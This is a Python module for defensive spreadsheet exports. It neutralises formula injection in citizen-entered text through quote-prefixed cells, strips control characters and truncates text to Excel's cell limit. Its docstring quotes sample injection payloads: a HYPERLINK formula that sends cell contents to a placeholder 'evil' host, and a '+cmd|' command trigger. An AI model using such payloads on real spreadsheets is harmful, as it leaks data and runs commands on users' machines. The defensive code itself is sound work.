"""Text cells that are safe to put in an exported spreadsheet.

Two dangers come with text a citizen typed:
- formula injection: '=HYPERLINK("http://evil/?"&A1,"ดูรายละเอียด")' or '+cmd|...' runs as a
  formula when a spreadsheet program (or a clerk re-typing the cell, or a CSV re-import) reads it
  as one (OWASP "CSV injection");
- cells Excel refuses or truncates: control characters, and more than 32,767 characters.

neutralise() returns the text to write and says whether it starts with a formula trigger. Such a
text is written as a string (xlsxwriter's write_string, in a Workbook opened with WORKBOOK_OPTIONS so
that even write() never turns '=...' into a formula) in a cell whose format has Excel's quote
prefix (QUOTE_PREFIX): Excel shows it as text and keeps it text when a clerk edits the cell, as if
it had been typed with a leading apostrophe, but the apostrophe is not part of the value. So an
export imports back unchanged. TextCells writes text cells that way.

Exports before quote-prefixed cells put a literal apostrophe in front instead; without_guard()
takes it off again when such a file is imported.
"""
from __future__ import annotations

import re
from typing import Any, NamedTuple

EXCEL_MAX_CELL_CHARS = 32_767
TRUNCATION_MARK = "…[ตัด/truncated]"
# OWASP's list (= + - @ tab CR), plus their full-width forms, which East Asian input methods turn
# into the ASCII ones when a clerk edits the cell.
FORMULA_TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
# What exports before quote-prefixed cells put in front of such a text.
FORMULA_GUARD = "'"
# The cell format property that keeps a formula-like text a text in Excel.
QUOTE_PREFIX = {"quote_prefix": True}

# xlsxwriter options for every export: rows streamed to disk, and no guessing from text.
WORKBOOK_OPTIONS = {
    "constant_memory": True,
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}

# Characters an .xlsx cannot hold: C0 controls other than tab, line feed and carriage return,
# lone surrogates (not encodable as UTF-8) and the two XML non-characters.
_REJECTED = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


class SafeText(NamedTuple):
    text: str
    neutralised: bool
    truncated: bool


def _utf16_length(text: str) -> int:
    # Excel counts UTF-16 code units: characters beyond the BMP (emoji) take two.
    return len(text) + sum(1 for char in text if ord(char) > 0xFFFF)


def _cut_to_units(text: str, units: int) -> str:
    count = 0
    for index, char in enumerate(text):
        count += 2 if ord(char) > 0xFFFF else 1
        if count > units:
            return text[:index]
    return text


def neutralise(value: Any) -> SafeText:
    """Export-safe text of a value: (text, neutralised, truncated).

    None becomes ''. Rejected control characters are removed first, so '\\x01=1' is caught too.
    A text whose first character (after spaces) is a formula trigger is neutralised: its cell must
    be written with QUOTE_PREFIX, even a plain '-5' (in a text column it is text). The text itself
    is left as it is. Over 32,767 UTF-16 units the text is cut and ends with TRUNCATION_MARK, the
    whole staying within Excel's limit.
    """
    if value is None:
        return SafeText("", False, False)
    text = value if isinstance(value, str) else str(value)
    if not text.isprintable():  # printable text holds none of the rejected characters
        text = _REJECTED.sub("", text)
    stripped = text.lstrip(" ")
    neutralised = bool(stripped) and stripped[0] in FORMULA_TRIGGERS
    # A text of at most half the limit fits whatever it holds (no character takes more than two
    # UTF-16 units), so only long texts are counted unit by unit.
    truncated = len(text) > EXCEL_MAX_CELL_CHARS // 2 and _utf16_length(text) > EXCEL_MAX_CELL_CHARS
    if truncated:
        text = _cut_to_units(text, EXCEL_MAX_CELL_CHARS - _utf16_length(TRUNCATION_MARK)) + TRUNCATION_MARK
    return SafeText(text, neutralised, truncated)


_FITS_AS_IS = EXCEL_MAX_CELL_CHARS // 2


def safe_cell(value: Any) -> str | SafeText:
    """The value itself when it goes into a cell as it is, else neutralise(value).

    Most cells are short printable text that starts with a letter or a digit: those are returned
    at once, without building neutralise()'s result (an export writes millions of them). The
    caller tells the two apart by type: a str is written plainly, a SafeText with QUOTE_PREFIX
    when it is neutralised."""
    if type(value) is str and value and value[0] != " " and value[0] not in FORMULA_TRIGGERS \
            and len(value) <= _FITS_AS_IS and value.isprintable():
        return value
    return neutralise(value)


def without_guard(text: str) -> str:
    """The text without the apostrophe an earlier export put in front of a formula trigger:
    "'- น้ำเสีย" -> "- น้ำเสีย", "'  =1" -> "  =1". Any other apostrophe is left alone."""
    if text[:1] == FORMULA_GUARD:
        rest = text[1:]
        stripped = rest.lstrip(" ")
        if stripped and stripped[0] in FORMULA_TRIGGERS:
            return rest
    return text


class TextCells:
    """Writes the text cells of one xlsxwriter workbook: through write_string, never write(), and
    in a quote-prefixed twin of the cell's format when the text starts with a formula trigger.

    Formats are given as xlsxwriter property dicts, so that each has its twin; both are made
    once per workbook."""

    def __init__(self, workbook: Any):
        self._workbook = workbook
        self._formats: dict[tuple, tuple[Any, Any]] = {}

    def formats(self, properties: dict | None = None) -> tuple[Any, Any]:
        """(plain, quote-prefixed) formats for the properties; plain is None without properties."""
        key = tuple(sorted((properties or {}).items()))
        pair = self._formats.get(key)
        if pair is None:
            plain = self._workbook.add_format(dict(properties)) if properties else None
            pair = self._formats[key] = (plain, self._workbook.add_format({**(properties or {}), **QUOTE_PREFIX}))
        return pair

    def write(self, worksheet: Any, row: int, col: int, value: Any, properties: dict | None = None) -> SafeText:
        """Write one text cell; returns what was written."""
        plain, quoted = self.formats(properties)
        safe = neutralise(value)
        worksheet.write_string(row, col, safe.text, quoted if safe.neutralised else plain)
        return safe
